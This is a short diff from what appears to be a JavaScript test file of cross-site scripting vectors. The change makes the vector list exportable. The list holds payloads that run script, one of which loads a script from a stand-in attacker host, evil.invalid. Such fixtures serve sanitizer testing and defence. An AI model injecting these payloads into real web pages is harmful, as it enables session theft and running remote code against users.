@@ -3,7 +3,7 @@
 const CODE = 'window.__pwned=1;alert(1)';
 
 /** Ways in which markup, links or templates run code. */
-const vectors = [
+export const vectors = [
   `<script>${CODE}</script>`,
   `<script src=//evil.invalid/x.js></script>`,
   `<img src=x onerror="${CODE}">`,
